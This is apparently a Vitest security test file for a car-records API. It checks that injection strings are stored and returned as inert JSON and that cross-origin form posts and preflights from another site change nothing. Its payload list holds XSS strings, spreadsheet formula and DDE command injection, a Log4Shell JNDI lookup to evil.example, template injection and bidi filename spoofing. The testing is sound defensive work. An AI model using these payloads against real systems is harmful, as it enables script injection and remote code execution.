/** Texts that other programs could take for code: they stay text, and a page of another site cannot send any. */

import { describe, expect, it } from 'vitest';
import { carOf, carsOf, parseBody } from '../answer.ts';
import { expectProblem } from '../expect-problem.ts';
import { useApp } from '../start-app.ts';

const app = useApp();

const TEXTS = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('1')",
  '=HYPERLINK("http://evil.example","Golf")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1-1',
  '\u202egpj.exe\u202c',
  '\u2066Golf\u2069\u200f',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '{{constructor.constructor("alert(1)")()}}',
];

/** What keeps a browser from taking a response for a page. */
function expectInert(headers: Headers, type: string): void {
  expect(headers.get('content-type')).toBe(type);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'");
}

// Proves: text-as-code
describe.each(TEXTS)('a text that is code elsewhere, %j,', (text) => {
  it('is stored and returned unchanged, as JSON', async () => {
    const created = await app().post('/cars', { brand: text, model: text, year: 2018 });
    const { id } = carOf(created);
    const found = await app().get(`/cars?brand=${encodeURIComponent(text)}`);
    const history = await app().get(`/cars/${id}/history`);
    expect(carsOf(found)).toEqual([{ brand: text, id, model: text, year: 2018 }]);
    expect(parseBody(history)).toMatchObject([{ after: { brand: text, model: text } }]);
    for (const { headers } of [created, found, history])
      expectInert(headers, 'application/json; charset=utf-8');
  });

  it('is no part of a page, and JSON in a problem document', async () => {
    const encoded = encodeURIComponent(text);
    const answers = [
      await app().get(`/cars?${encoded}=1`),
      await app().get(`/cars?sort=${encoded}`),
      await app().get(`/cars/${encoded}`),
      await app().get(`/docs/problems/${encoded}`),
      await app().get(`/${encoded}`),
      await app().post('/cars', { [text]: 1 }),
    ];
    for (const { status, headers } of answers) {
      expect(status).toBeGreaterThanOrEqual(400);
      expectInert(headers, 'application/problem+json');
    }
  });
});

// Proves: text-as-code
describe('a form or script of another site', () => {
  const CAR = '{"brand":"Evil","model":"Golf","year":2018}';

  // What a browser sends without asking first (https://fetch.spec.whatwg.org/#cors-safelisted-request-header).
  it.each([
    ['text/plain', CAR],
    ['text/plain; charset=utf-8', CAR],
    ['text/plain;application/json', CAR],
    ['application/x-www-form-urlencoded', `${CAR}=`],
    [
      'multipart/form-data; boundary=x',
      `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${CAR}\r\n--x--`,
    ],
  ])('changes nothing with a POST of %s', async (type, body) => {
    const before = (await app().get('/cars?count=exact')).headers.get('x-total-count');
    const answer = await app().post('/cars', body, { 'content-type': type, origin: 'https://evil.example' });
    await expectProblem(answer, 'unsupported-media-type');
    expect((await app().get('/cars?count=exact')).headers.get('x-total-count')).toBe(before);
  });

  it.each(['PUT', 'PATCH', 'DELETE', 'POST'])('is not allowed to send a %s with JSON', async (method) => {
    const headers = {
      origin: 'https://evil.example',
      'access-control-request-method': method,
      'access-control-request-headers': 'content-type',
    };
    const preflight = await app().call('OPTIONS', '/cars/1', headers);
    expect([...preflight.headers.keys()].filter((name) => name.startsWith('access-control-'))).toEqual([]);
  });
});
